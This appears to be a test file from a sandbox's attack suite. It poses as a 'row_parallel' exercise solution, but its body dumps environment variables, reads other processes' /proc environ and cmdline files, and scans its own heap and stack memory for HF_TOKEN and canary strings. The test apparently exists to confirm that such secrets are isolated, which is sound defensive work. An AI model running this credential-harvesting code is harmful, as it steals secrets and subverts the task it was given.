# tries: read tokens from the environment of every process that it can see
# exercise: row_parallel
# states: CRASH
# zero: all
# told: nothing to be had
import ctypes
import os

from tests.attacks.parts.facts import CANARY
from tests.attacks.parts.finish import finish


def row_parallel(x_shard, w_shard, bias):
    print(sorted(os.environ.items()))
    found = [name for name, value in os.environ.items() if CANARY in value or "TOKEN" in name]
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        for name in ("environ", "cmdline", "auxv"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    text = file.read()
            except OSError:
                continue
            if CANARY.encode() in text or b"TOKEN" in text:
                found.append((pid, name))
    with open("/proc/self/maps") as maps:
        for line in maps.readlines():
            where, rights = line.split()[:2]
            begin, end = (int(number, 16) for number in where.split("-"))
            if rights.startswith("r") and line.rstrip().endswith(("[stack]", "[heap]")):
                data = ctypes.string_at(begin, min(end - begin, 2**26))
                if b"HF_" + b"TOKEN=" in data or b"TOKEN=labs-" + b"attack" in data:
                    found.append(line)
    finish(found)
